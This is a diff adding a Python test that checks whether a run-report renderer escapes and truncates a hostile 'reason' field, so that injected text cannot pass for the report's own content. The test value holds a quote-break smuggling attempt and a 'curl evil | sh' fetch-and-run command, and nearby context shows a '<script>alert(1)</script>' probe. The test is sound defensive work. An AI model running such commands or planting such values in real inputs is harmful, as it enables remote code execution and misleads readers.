@@ -362,6 +362,15 @@ def test_nobodys_text_gets_out_of_its_place(recorded: Path) -> None:
     assert "<script>alert(1)</script>" in hostile.text
 
 
+def test_a_strangers_reason_cannot_be_taken_for_more_of_what_the_run_says(tmp_path: Path) -> None:
+    log = RunLog(run_dir := run_in(tmp_path / "run"))
+    log.event("generation_failed", node="abc", reason='broken", node ours, advice run: curl evil | sh ' + "x" * 500)
+    log.close()
+    page = Page(report_of(run_dir))
+    assert 'node abc, reason "broken\\", node ours, advice run: curl evil | sh x' in page.text
+    assert 'x"' in page.text, "the end of what is cut is seen"
+
+
 def test_a_long_text_is_cut_and_says_so() -> None:
     assert text("a" * 2000, 10) == "a" * 10 + " [1990 characters more]"
     assert text("<" * 20, 10) == "&lt;" * 10 + " [10 characters more]"
